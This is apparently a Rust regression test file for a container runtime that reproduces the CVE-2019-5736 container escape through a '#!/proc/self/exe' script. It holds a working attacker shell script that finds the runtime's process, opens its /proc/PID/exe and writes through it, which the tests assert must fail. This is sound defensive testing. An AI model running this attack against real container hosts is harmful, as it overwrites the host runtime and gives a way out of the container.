//! CVE-2019-5736 through `#!/proc/self/exe`: the program a runtime execs in a container
//! is a script whose interpreter is `/proc/self/exe`. The kernel resolves that link in
//! the process that is still the runtime, loads the runtime's binary as the interpreter,
//! and the process that results is an ordinary, dumpable process of the container. An
//! attacker in the same pid namespace opens its `/proc/PID/exe`, waits until it is gone
//! (the file is no longer busy), and writes through the fd. The runtime under test runs
//! from a copy on the host, which must come out unchanged; the write must fail.
//!
//! The interpreted runtime only prints a usage error and exits, which is too quick to
//! catch reliably: its standard error is a pipe the case has filled, so it blocks in that
//! write until the attacker has opened its exe, and the case then drains the pipe.

use super::{ensure, field};
use crate::bundle::config;
use crate::ctx::Ctx;
use crate::{Case, CaseResult};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("escape_interpreter_runtime_as_process", as_process),
        Case::new("escape_interpreter_runtime_through_exec", through_exec),
        Case::corral(
            "escape_interpreter_refused_by_the_exec_trampoline",
            "`exec` leaves corral through the trampoline where no process of the container \
             can reach it",
            through_exec_trampoline,
        ),
    ]
}

/// The attacker, the pod's init: once the case has created /go (the victim's command is
/// about to start; an emulated guest may take seconds to get there), finds the process
/// whose command line starts with `/proc/self/exe` (the runtime loaded as the script's
/// interpreter; looked for during 10 s: 2 s were too few under software emulation), opens
/// its exe, waits for it to end, then writes through the fd; each step reported in /out.
const ATTACKER: &str = "i=0; while [ ! -e /go ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; \
    i=0; p=; \
    while [ -z \"$p\" ] && [ $i -lt 200 ]; do \
      for d in /proc/[0-9]*; do \
        case \"$(tr '\\0' ' ' <$d/cmdline 2>/dev/null)\" in '/proc/self/exe '*) p=${d#/proc/};; esac; \
      done; \
      [ -n \"$p\" ] || sleep 0.05; i=$((i+1)); \
    done; \
    echo target=$p >>/out; \
    [ -n \"$p\" ] || { echo opened=no >>/out; echo done=1 >>/out; exec sleep 1000; }; \
    if command exec 3</proc/$p/exe; then echo opened=yes >>/out; else echo opened=no >>/out; fi; \
    i=0; while [ -e /proc/$p ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
    echo gone=$i >>/out; \
    if echo pwned >/proc/self/fd/3; then echo wrote=yes >>/out; else echo wrote=no >>/out; fi; \
    echo done=1 >>/out; \
    exec sleep 1000";

const SCRIPT: &str = "#!/proc/self/exe\n";

/// Victim and attacker have the same capabilities, as with `exec` into a container.
fn caps() -> Value {
    let caps = json!(["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE"]);
    json!({ "bounding": caps, "effective": caps, "permitted": caps })
}

/// `caps`, with CAP_SYS_PTRACE in the bounding set only: no process holds it, but one
/// may, so corral's `exec` runs from its write-protected copy (the case for the copy)
/// rather than through the trampoline (`through_exec_trampoline`).
fn caps_ptrace_bounding() -> Value {
    let mut c = caps();
    c["bounding"]
        .as_array_mut()
        .unwrap()
        .push(json!("CAP_SYS_PTRACE"));
    c
}

/// Runs the attacker pod (with the runtime under test itself) with capabilities
/// `caps`; returns the path of the attacker's report and its bundle.
fn attacker_pod(cx: &mut Ctx, caps: Value) -> Result<(PathBuf, PathBuf), String> {
    let mut cfg = config(&["sh", "-c", ATTACKER]);
    cfg["process"]["capabilities"] = caps;
    let b = cx.bundle(&cfg)?;
    std::fs::write(b.join("rootfs/evil"), SCRIPT).map_err(|e| e.to_string())?;
    std::fs::set_permissions(b.join("rootfs/evil"), PermissionsExt::from_mode(0o755))
        .map_err(|e| e.to_string())?;
    cx.rt(&["run", "-d", "--bundle", &b.to_string_lossy(), "pod"])
        .ok("run the attacker pod")?;
    Ok((b.join("rootfs/out"), b))
}

/// Tells the attacker (whose report is `out`) to start looking.
fn go(out: &Path) -> CaseResult {
    let go = out.with_file_name("go");
    std::fs::write(&go, "").map_err(|e| format!("write {}: {e}", go.display()))
}

/// A copy of the runtime for the victim's commands, and its bytes.
pub(super) fn runtime_copy(cx: &Ctx) -> Result<(PathBuf, Vec<u8>), String> {
    let copy = cx.dir.join("runtime-copy");
    std::fs::copy(&cx.runtime, &copy).map_err(|e| format!("copy the runtime: {e}"))?;
    let bytes = std::fs::read(&copy).map_err(|e| e.to_string())?;
    Ok((copy, bytes))
}

/// A pipe whose buffer is full: a process writing to it blocks until it is read.
fn full_pipe() -> Result<(std::fs::File, OwnedFd), String> {
    let (r, w) = nix::unistd::pipe().map_err(|e| format!("pipe: {e}"))?;
    let mut w = std::fs::File::from(w);
    let flags = nix::fcntl::OFlag::O_NONBLOCK;
    nix::fcntl::fcntl(w.as_raw_fd(), nix::fcntl::FcntlArg::F_SETFL(flags))
        .map_err(|e| e.to_string())?;
    let block = [b'.'; 4096];
    while w.write(&block).is_ok() {}
    let flags = nix::fcntl::OFlag::empty();
    nix::fcntl::fcntl(w.as_raw_fd(), nix::fcntl::FcntlArg::F_SETFL(flags))
        .map_err(|e| e.to_string())?;
    Ok((std::fs::File::from(r), OwnedFd::from(w)))
}

/// Waits until the attacker's report has `key` (at most 30 s).
pub(super) fn wait_report(out: &Path, key: &str) -> Result<String, String> {
    let start = Instant::now();
    loop {
        let text = std::fs::read_to_string(out).unwrap_or_default();
        if field(&text, key).is_some() {
            return Ok(text);
        }
        if start.elapsed() > crate::PATIENCE {
            return Err(format!("the attacker did not report {key}: {text}"));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The victim's runtime command has started the script (its stderr is `pipe`): let the
/// attacker open the interpreter's exe, drain the pipe so the interpreter can end, and
/// check the outcome.
fn finish_attack(
    cx: &Ctx,
    out: &Path,
    mut pipe: std::fs::File,
    copy: &Path,
    original: &[u8],
) -> CaseResult {
    let opened = wait_report(out, "opened")?;
    // Read until every writer is gone: the interpreter has exited.
    let mut sink = vec![];
    pipe.read_to_end(&mut sink).map_err(|e| e.to_string())?;
    // The interpreter is this process's child (a subreaper): reaped, it is gone from
    // /proc, which the attacker waits for (and the pod's pid 1 can die at cleanup).
    let start = Instant::now();
    let reported = |k| field(&std::fs::read_to_string(out).unwrap_or_default(), k).is_some();
    while !reported("gone") && !reported("done") && start.elapsed() < crate::PATIENCE {
        crate::ctx::reap();
        std::thread::sleep(Duration::from_millis(20));
    }
    let report = wait_report(out, "done")?;
    if field(&opened, "target").is_none_or(str::is_empty) {
        return refused(cx, "no interpreter process ran", copy, original);
    }
    let now = std::fs::read(copy).map_err(|e| e.to_string())?;
    ensure!(
        now == original,
        "the runtime binary on the host was overwritten through /proc/PID/exe: {report}"
    );
    ensure!(
        field(&report, "wrote") == Some("no"),
        "the attacker wrote through the interpreter's exe: {report}"
    );
    Ok(())
}

/// A runtime that does not load itself as the script's interpreter (runc 1.1.5 fails
/// the exec with ENOENT) closes the route: the host binary must be unchanged. corral
/// must run the script, so that the case shows the interpreter's exe is out of reach.
fn refused(cx: &Ctx, how: &str, copy: &Path, original: &[u8]) -> CaseResult {
    ensure!(!cx.is_corral, "corral did not run the script: {how}");
    let now = std::fs::read(copy).map_err(|e| e.to_string())?;
    ensure!(now == original, "the runtime binary on the host changed");
    Ok(())
}

/// `create` + `start` (by the host copy) of a container in the pod whose process is
/// the script.
fn as_process(cx: &mut Ctx) -> CaseResult {
    let (copy, original) = runtime_copy(cx)?;
    let (out, _) = attacker_pod(cx, caps())?;
    let pod = cx.state("pod")?["pid"].as_i64().unwrap_or(0);
    let mut victim = config(&["/evil"]);
    victim["process"]["capabilities"] = caps();
    victim["linux"]["namespaces"] = json!([
        { "type": "mount" }, { "type": "ipc" }, { "type": "uts" }, { "type": "network" },
        { "type": "pid", "path": format!("/proc/{pod}/ns/pid") }
    ]);
    victim.as_object_mut().unwrap().remove("hostname");
    let vb = cx.bundle(&victim)?;
    std::fs::write(vb.join("rootfs/evil"), SCRIPT).map_err(|e| e.to_string())?;
    std::fs::set_permissions(vb.join("rootfs/evil"), PermissionsExt::from_mode(0o755))
        .map_err(|e| e.to_string())?;
    let (pipe, w) = full_pipe()?;
    go(&out)?;
    let runtime = std::mem::replace(&mut cx.runtime, copy.clone());
    // Detached: the copy's own processes are gone when the attacker writes, as after a
    // `create` and `start` by an engine; only the interpreter runs the binary.
    let created = cx.rt_with(
        &["create", "--bundle", &vb.to_string_lossy(), "victim"],
        |c| {
            c.stderr(w);
        },
    );
    let started = created
        .ok("create the victim with the runtime's copy")
        .map(drop)
        .and_then(|_| cx.rt(&["start", "victim"]).ok("start the victim").map(drop));
    cx.runtime = runtime;
    if let Err(e) = started {
        // The interpreter (if any) must not stay blocked on the pipe.
        drop(pipe);
        return Err(e);
    }
    // Either the attacker finds the interpreter, or the victim's exec failed and it
    // stopped without running one.
    let start = Instant::now();
    loop {
        if cx.status("victim")? == "stopped" {
            drop(pipe);
            crate::ctx::reap();
            return refused(
                cx,
                "the victim stopped without running it",
                &copy,
                &original,
            );
        }
        if field(&std::fs::read_to_string(&out).unwrap_or_default(), "opened").is_some() {
            break;
        }
        ensure!(
            start.elapsed() < crate::PATIENCE,
            "the attacker did not report"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    finish_attack(cx, &out, pipe, &copy, &original)
}

/// `exec -d` (by the host copy) of the script into the pod.
fn through_exec(cx: &mut Ctx) -> CaseResult {
    let (copy, original) = runtime_copy(cx)?;
    let (out, _) = attacker_pod(cx, caps_ptrace_bounding())?;
    let (pipe, w) = full_pipe()?;
    go(&out)?;
    let runtime = std::mem::replace(&mut cx.runtime, copy.clone());
    let exec = cx.rt_with(&["exec", "-d", "pod", "/evil"], |c| {
        c.stderr(w);
    });
    cx.runtime = runtime;
    if exec.code != 0 {
        drop(pipe);
        return refused(
            cx,
            &format!("exec failed: {}", exec.stderr.trim()),
            &copy,
            &original,
        );
    }
    finish_attack(cx, &out, pipe, &copy, &original)
}

/// `exec -d` (by the host copy) of the script into a pod none of whose processes may
/// hold CAP_SYS_PTRACE: corral's process leaves corral through the trampoline, so the
/// kernel resolves `/proc/self/exe` to the trampoline's sealed memfd, which refuses to
/// run as an interpreter. No process runs corral's binary for the attacker to find, and
/// the host copy is unchanged.
fn through_exec_trampoline(cx: &mut Ctx) -> CaseResult {
    let (copy, original) = runtime_copy(cx)?;
    let (out, _) = attacker_pod(cx, caps())?;
    go(&out)?;
    let log = cx.dir.join("exec-debug.log");
    let runtime = std::mem::replace(&mut cx.runtime, copy.clone());
    let log_arg = log.to_string_lossy().into_owned();
    let exec = cx.rt(&["--debug", "--log", &log_arg, "exec", "-d", "pod", "/evil"]);
    cx.runtime = runtime;
    exec.ok("exec -d the script")?;
    let trace = std::fs::read_to_string(&log).map_err(|e| format!("{}: {e}", log.display()))?;
    ensure!(
        trace.contains("exec: the process leaves corral through the trampoline"),
        "exec did not take the trampoline: {trace}"
    );
    // The trampoline lives a moment as the interpreter (`/proc/self/exe /evil`): an
    // attacker that catches it holds the sealed memfd, which takes no write.
    let report = wait_report(&out, "done")?;
    ensure!(
        field(&report, "wrote") != Some("yes"),
        "the attacker wrote through the interpreter's exe: {report}"
    );
    let now = std::fs::read(&copy).map_err(|e| e.to_string())?;
    ensure!(now == original, "the runtime binary on the host changed");
    Ok(())
}
